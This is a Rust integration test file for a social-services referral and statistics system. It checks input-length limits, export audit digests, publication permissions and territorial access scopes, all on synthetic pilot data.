fn a_huge_header_line_is_not_echoed() {
    let db = vamos_store::testing::sqlite_db();
    let d = tempfile::tempdir().unwrap();
    let token = operator_token(&db.url, d.path());
    let s = start(&db.url, d.path());
    // Three million characters: a line over 4 MiB is refused as a record too long, unread.
    let body = format!("id_evento,{}\nE-1,x\n", "y".repeat(3_000_000));
    let (st, v) = post_as(
        &s,
        &token,
        "/api/counter-referrals/file",
        "text/csv",
        body.as_bytes(),
    );
    assert_eq!(st, 400, "{v}");
    let message = v["error"]["message"].as_str().unwrap();
    assert!(
        message.contains("faltan columnas obligatorias"),
        "{message}"
    );
    assert!(
        message.contains("id_evento, yyyy") && message.ends_with("…)"),
        "{message}"
    );
    assert!(chars(message) < 400, "{} characters", chars(message));
    // A JSON field name is the sender's too.
    let batch = format!(
        r#"[{{"event_id": "E-1", "{}": 1}}]"#,
        "z".repeat(20_000_000)
    );
    let (st, v) = post_as(
        &s,
        &token,
        "/api/counter-referrals/batch",
        "application/json",
        batch.as_bytes(),
    );
    assert_eq!(st, 400, "{v}");
    let message = v["error"]["message"].as_str().unwrap();
    assert!(
        message.contains("evento 1") && message.contains('…'),
        "{message}"
    );
    assert!(chars(message) < 400, "{} characters", chars(message));
}

#[test]
fn a_long_query_parameter_is_not_echoed() {
    let db = vamos_store::testing::sqlite_db();
    let d = tempfile::tempdir().unwrap();
    init_db(&db.url, d.path());
    let s = start(&db.url, d.path());
    let admin = login(&s, "admin", PW);
    let territory = "9".repeat(5_000);
    let (st, v, _) = call(
        &s,
        &admin,
        "get",
        &format!("/api/persons?q=Ana&territory={territory}"),
        None,
    );
    assert_eq!(st, 400, "{v}");
    let message = v["error"]["message"].as_str().unwrap();
    assert!(
        message.contains("mal formado «9999") && message.contains("…»"),
        "{message}"
    );
    assert!(chars(message) < 400, "{} characters", chars(message));
}

#[test]
fn oversize_free_text_is_refused_in_the_api() {
    let db = vamos_store::testing::sqlite_db();
    let d = tempfile::tempdir().unwrap();
    init_db(&db.url, d.path());
    let s = start(&db.url, d.path());
    let admin = login(&s, "admin", PW);
    let reject = |reason: String| {
        call(
            &s,
            &admin,
            "post",
            "/api/referrals/1/status",
            Some(serde_json::json!({"status": "rechazada", "reason": reason})),
        )
    };
    let (st, v, _) = reject("x".repeat(2_001));
    assert_eq!(st, 400, "{v}");
    assert_eq!(
        v["error"]["message"],
        "motivo: texto demasiado largo: 2001 caracteres; un texto libre admite a lo sumo 2000"
    );
    // Two thousand characters are free text enough: the referral is then looked for.
    let (st, v, _) = reject("ñ".repeat(2_000));
    assert_eq!(st, 404, "{v}");
}

/// The referrals of an export (the first column of its CSV), as the digest of its audit record
/// takes them: ascending, each in decimal followed by a line feed.
fn exported_ids(csv_text: &str) -> (usize, String) {
    let mut r = csv::Reader::from_reader(csv_text.trim_start_matches('\u{feff}').as_bytes());
    let mut ids: Vec<i64> = r
        .records()
        .map(|l| l.unwrap()[0].parse().unwrap())
        .collect();
    ids.sort_unstable();
    let lines: String = ids.iter().map(|i| format!("{i}\n")).collect();
    (ids.len(), vamos_store::audit::sha256_hex(&lines))
}

#[test]
fn an_export_audit_record_accounts_for_every_referral() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    synth_pilots(d, "300", "36");
    for db in vamos_store::testing::all_dbs() {
        let url = db.url.as_str();
        init_db(url, d);
        for args in [
            &[
                "import",
                "fips",
                "--db",
                url,
                "datos",
                "--date",
                "2026-11-23",
            ][..],
            &["classify", "--db", url, "--as-of", "2026-11-23"],
            &["referrals", "generate", "--db", url],
        ] {
            let o = vamos(args, d, &[]);
            assert!(
                o.status.success(),
                "{args:?}: {}",
                String::from_utf8_lossy(&o.stderr)
            );
        }
        let out = d.join(format!("mspbs-{}.csv", db.label));
        let o = vamos(
            &[
                "referrals",
                "export",
                "--db",
                url,
                "--institution",
                "MSPBS",
                "--status",
                "abierta",
                "--out",
                out.to_str().unwrap(),
            ],
            d,
            &[],
        );
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
        let (count, digest) = exported_ids(&std::fs::read_to_string(&out).unwrap());
        assert!(count > 50, "{}: only {count} referrals", db.label);
        let trail = d.join(format!("auditoria-{}.csv", db.label));
        let o = vamos(
            &[
                "audit",
                "export",
                "--db",
                url,
                "--out",
                trail.to_str().unwrap(),
            ],
            d,
            &[],
        );
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
        let trail = std::fs::read_to_string(&trail).unwrap();
        let mut r = csv::Reader::from_reader(trail.trim_start_matches('\u{feff}').as_bytes());
        let headers = r.headers().unwrap().clone();
        let col = |name: &str| headers.iter().position(|h| h == name).unwrap();
        let (action, subject, outcome) = (col("accion"), col("sujeto"), col("resultado"));
        let record = r
            .records()
            .map(Result::unwrap)
            .find(|l| &l[action] == "exportar referencias")
            .unwrap_or_else(|| panic!("{}: {trail}", db.label));
        assert_eq!(
            &record[subject],
            format!("{count} referencias, sha256:{digest}"),
            "{}",
            db.label
        );
        assert!(
            record[outcome].contains("filtro: institucion=MSPBS estado=abierta"),
            "{}",
            &record[outcome]
        );
    }
}

// ---------------------------------------------------------------------------------------------
// Public figures (item 7) and the Logros permission's scope (item 11): the public figures come
// only from a measurement an analyst publishes — a counter-referral moves the live figures
// within seconds, and a public figure that moved with one delivery would tell whoever knew
// when a person was served that person's attributes — and an account reads unsuppressed
// Logros only of its own territories. One scenario per backend, run once, each step kept for
// the test that checks it. (The suppression rule itself — no published cell is the difference
// of two published cells — is tested over tables in `vamos_app::suppression`.)

/// What each step of the publication scenario answered.
struct Publication {
    label: &'static str,
    m: i64,
    /// `/api/public/logros` and the public page before anything was published.
    public_before: (u16, Value),
    page_before: String,
    /// Publishing refused: a Mesa member's session, nobody, the command line as that member.
    mesa_publish: u16,
    anonymous_publish: u16,
    command_line_mesa_publish: Option<i32>,
    /// The analyst's publication.
    analyst_publish: (u16, Value),
    /// Public figures after publishing, after a counter-referral, after publishing again.
    public_published: Value,
    public_after_counter_referral: Value,
    public_republished: Value,
    /// The live Logros of Villeta (analyst) before and after the counter-referral.
    live_before: Value,
    live_after: Value,
    /// `(actor, subject, outcome)` of every audit record of a publication.
    audited: Vec<(String, String, String)>,
    /// A Mesa member of San Juan Nepomuceno (0607) reading `/api/logros` of: its district, Villeta
    /// (1116), its department (06), the nation.
    mesa_own: (u16, Value),
    mesa_villeta: (u16, Value),
    mesa_department: u16,
    mesa_nation: u16,
    /// The same member's dashboard of its district and of Villeta.
    mesa_page_own: String,
    mesa_page_villeta: String,
    /// The analyst's dashboard (it may publish), and what its publish form answered.
    analyst_page: String,
    form_publish: u16,
    _server: Server,
    _db: vamos_store::testing::TestDb,
    _dir: tempfile::TempDir,
}

static PUBLICATIONS: std::sync::LazyLock<Vec<Publication>> = std::sync::LazyLock::new(|| {
    vamos_store::testing::all_dbs()
        .into_iter()
        .map(publication)
        .collect()
});

fn ok(o: &std::process::Output) {
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
}

#[allow(clippy::too_many_lines)] // reason: one scenario, its steps in order, read top to bottom
fn publication(db: vamos_store::testing::TestDb) -> Publication {
    use vamos_store::testing::RawSql;
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let url = db.url.clone();
    let url = url.as_str();
    synth_pilots(d, "400", "11");
    init_db(url, d);
    ok(&vamos(
        &[
            "import",
            "fips",
            "--db",
            url,
            "datos",
            "--date",
            "2026-11-23",
        ],
        d,
        &[],
    ));
    let o = vamos(&["classify", "--db", url, "--as-of", "2026-11-23"], d, &[]);
    ok(&o);
    let m: i64 = String::from_utf8_lossy(&o.stdout)
        .lines()
        .last()
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    for (user, role, territories) in [
        ("analista", "analista", None),
        ("mesa_sjn", "mesa", Some("0607")),
    ] {
        let mut args = vec!["user", "create", "--db", url, user, "--role", role];
        if let Some(t) = territories {
            args.extend(["--territories", t]);
        }
        ok(&vamos(&args, d, &[("VAMOS_PASSWORD", PW)]));
    }
    let token = operator_token(url, d);
    ok(&vamos(
        &[
            "agreement",
            "create",
            "--db",
            url,
            "--institution",
            "MSPBS",
            "--fields",
            "given_names,family_names,national_id,district_code",
            "--purpose",
            "referencia de servicios de salud",
            "--from",
            "2026-01-01",
            "--to",
            "2030-12-31",
        ],
        d,
        &[],
    ));
    ok(&vamos(&["referrals", "generate", "--db", url], d, &[]));
    let monitor = monitoring(url, d, "monitoreo");
    let s = start(url, d);
    let nobody = Who::default();
    let analyst = login(&s, "analista", PW);
    let mesa = login(&s, "mesa_sjn", PW);
    let public = |who: &Who| call(&s, who, "get", "/api/public/logros?territory=PY", None);
    let page = |who: &Who, path: &str| match call(&s, who, "get", path, None).1 {
        Value::String(html) => html,
        v => v.to_string(),
    };

    let (st, v, _) = public(&nobody);
    let public_before = (st, v);
    let page_before = page(&nobody, "/logros");
    let publish_path = format!("/api/measurements/{m}/publish");
    let mesa_publish = call(&s, &mesa, "post", &publish_path, None).0;
    let anonymous_publish = call(&s, &nobody, "post", &publish_path, None).0;
    let command_line_mesa_publish = vamos(
        &["measurements", "publish", &m.to_string(), "--db", url],
        d,
        &[("VAMOS_USER", "mesa_sjn")],
    )
    .status
    .code();
    let (st, v, _) = call(&s, &analyst, "post", &publish_path, None);
    let analyst_publish = (st, v);
    let public_published = public(&nobody).1;

    // A counter-referral for a person of Villeta that MSPBS was referred.
    for _ in 0..300 {
        let (_, ready, _) = call(&s, &monitor, "get", "/api/ready", None);
        if ready["counter_referral_intake"]["referrals"]["state"] == "ready" {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    let live = || call(&s, &analyst, "get", "/api/logros?territory=1116", None).1;
    let live_before = live();
    let his = Who {
        bearer: Some(token),
        ..Who::default()
    };
    let (_, list, _) = call(
        &s,
        &his,
        "get",
        "/api/referrals?territory=1116&limit=1000",
        None,
    );
    // The operator's token may only send counter-referrals: read the list as the analyst.
    let list = if list["items"].is_array() {
        list
    } else {
        call(
            &s,
            &analyst,
            "get",
            "/api/referrals?territory=1116&institution=MSPBS&limit=1000",
            None,
        )
        .1
    };
    let target = list["items"]
        .as_array()
        .unwrap_or_else(|| panic!("{list}"))
        .iter()
        .find(|i| i["unit_kind"] == "persona")
        .expect("a person referral")
        .clone();
    let event = serde_json::json!({"event_id": "PUB-1", "person_id": target["unit_id"], "service": target["service"], "delivered_on": "2026-11-20", "place": "USF Villeta", "place_district": 1116});
    let (st, v, _) = call(&s, &his, "post", "/api/counter-referrals", Some(event));
    assert_eq!(st, 201, "{v}");
    let mut live_after = live();
    for _ in 0..200 {
        if live_after["logros"] != live_before["logros"] {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
        live_after = live();
    }
    let public_after_counter_referral = public(&nobody).1;
    ok(&vamos(
        &["measurements", "publish", &m.to_string(), "--db", url],
        d,
        &[("VAMOS_USER", "analista")],
    ));
    let public_republished = public(&nobody).1;

    let audited = vamos_store::open(url)
        .unwrap()
        .db()
        .query(
            "SELECT actor, subject_id, outcome FROM audit_log WHERE action = 'publicar' ORDER BY id",
            &[],
        )
        .unwrap()
        .iter()
        .map(|r| (r.text(0), r.text(1), r.text(2)))
        .collect();

    let logros = |t: &str| {
        call(
            &s,
            &mesa,
            "get",
            &format!("/api/logros?territory={t}"),
            None,
        )
    };
    let (st, v, _) = logros("0607");
    let mesa_own = (st, v);
    let (st, v, _) = logros("1116");
    let mesa_villeta = (st, v);
    let mesa_department = logros("06").0;
    let mesa_nation = logros("PY").0;
    let mesa_page_own = page(&mesa, "/logros?t=0607");
    let mesa_page_villeta = page(&mesa, "/logros?t=1116");
    let analyst_page = page(&analyst, "/logros?t=1116");
    // The page's button is a form posting the session's CSRF token.
    let no_redirects: ureq::Agent = ureq::Agent::config_builder()
        .http_status_as_error(false)
        .max_redirects(0)
        .build()
        .into();
    let form_publish = no_redirects
        .post(format!("{}/logros/publicar", s.base))
        .header(
            "cookie",
            format!("vamos_sesion={}", analyst.cookie.clone().unwrap()),
        )
        .send_form([
            ("csrf", analyst.csrf.clone().unwrap()),
            ("medicion", m.to_string()),
            ("t", "1116".to_string()),
        ])
        .unwrap()
        .status()
        .as_u16();
    Publication {
        label: db.label,
        m,
        public_before,
        page_before,
        mesa_publish,
        anonymous_publish,
        command_line_mesa_publish,
        analyst_publish,
        public_published,
        public_after_counter_referral,
        public_republished,
        live_before,
        live_after,
        audited,
        mesa_own,
        mesa_villeta,
        mesa_department,
        mesa_nation,
        mesa_page_own,
        mesa_page_villeta,
        analyst_page,
        form_publish,
        _server: s,
        _db: db,
        _dir: dir,
    }
}

#[test]
fn nothing_is_public_until_a_measurement_is_published() {
    for p in PUBLICATIONS.iter() {
        let (st, v) = &p.public_before;
        assert_eq!(*st, 404, "{}: {v}", p.label);
        assert!(
            v.to_string()
                .contains("un analista debe publicar una medición"),
            "{}: {v}",
            p.label
        );
        assert!(
            p.page_before
                .contains("Todavía no hay mediciones publicadas")
                && p.page_before.contains("un analista publica"),
            "{}: {}",
            p.label,
            p.page_before
        );
    }
}

#[test]
fn publishing_a_measurement_is_audited_and_needs_permission() {
    for p in PUBLICATIONS.iter() {
        let label = p.label;
        assert_eq!(p.mesa_publish, 403, "{label}");
        assert_eq!(p.anonymous_publish, 401, "{label}");
        assert_eq!(p.command_line_mesa_publish, Some(2), "{label}");
        let (st, v) = &p.analyst_publish;
        assert_eq!(*st, 200, "{label}: {v}");
        assert_eq!(v["measurement"], p.m, "{label}: {v}");
        assert_eq!(v["published_by"], "analista", "{label}: {v}");
        let m = p.m.to_string();
        let row = |actor: &str, outcome: &str| (actor.to_string(), m.clone(), outcome.to_string());
        assert_eq!(
            p.audited,
            vec![
                row("mesa_sjn", "denegado"),
                row("mesa_sjn (línea de órdenes)", "denegado"),
                row("analista", "ok: publicada"),
                row("analista (línea de órdenes)", "ok: publicada"),
            ],
            "{label}"
        );
    }
}

#[test]
fn public_figures_do_not_move_until_a_measurement_is_published() {
    for p in PUBLICATIONS.iter() {
        let label = p.label;
        // The live figures moved with the counter-referral…
        assert_ne!(
            p.live_before["logros"], p.live_after["logros"],
            "{label}: the updater did not run"
        );
        assert_eq!(p.public_published["measurement"]["id"], p.m, "{label}");
        // …the public ones did not, to the cell…
        assert_eq!(
            p.public_after_counter_referral, p.public_published,
            "{label}"
        );
        // …until the measurement was published again.
        assert_ne!(
            p.public_republished["logros"], p.public_published["logros"],
            "{label}"
        );
    }
}

#[test]
fn a_mesa_reads_unsuppressed_logros_only_in_its_territory() {
    for p in PUBLICATIONS.iter() {
        let label = p.label;
        let (st, v) = &p.mesa_own;
        assert_eq!(*st, 200, "{label}: {v}");
        assert_eq!(v["territory"]["code"], "0607", "{label}");
        let (st, v) = &p.mesa_villeta;
        assert_eq!(*st, 403, "{label}: {v}");
        assert!(
            v["error"].to_string().contains("fuera de su ámbito"),
            "{label}: {v}"
        );
        assert_eq!(p.mesa_department, 403, "{label}");
        assert_eq!(p.mesa_nation, 403, "{label}");
        // On the dashboard: its own district live, Villeta only as the public figures.
        assert!(
            !p.mesa_page_own.contains("fuera del ámbito de su cuenta"),
            "{label}"
        );
        assert!(
            p.mesa_page_villeta
                .contains("fuera del ámbito de su cuenta")
                && p.mesa_page_villeta.contains("Cifras públicas"),
            "{label}: {}",
            p.mesa_page_villeta
        );
    }
}

#[test]
fn the_dashboard_offers_publishing_only_to_who_may_publish() {
    for p in PUBLICATIONS.iter() {
        let label = p.label;
        assert!(
            p.analyst_page.contains("Publicar la medición")
                && p.analyst_page.contains("action=\"/logros/publicar\"")
                && p.analyst_page.contains("publicada el"),
            "{label}: {}",
            p.analyst_page
        );
        assert!(!p.mesa_page_own.contains("/logros/publicar"), "{label}");
        assert_eq!(p.form_publish, 303, "{label}");
    }
}
